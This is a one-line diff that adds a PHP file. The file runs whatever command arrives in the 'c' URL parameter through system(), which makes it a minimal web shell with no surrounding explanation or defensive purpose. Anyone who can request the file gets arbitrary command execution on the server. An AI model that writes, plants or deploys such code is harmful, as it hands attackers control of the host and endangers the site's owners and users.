@@ -1,0 +1,1 @@
+<?php $c = vsprintf("%s", [$_GET["c"]]); system($c);
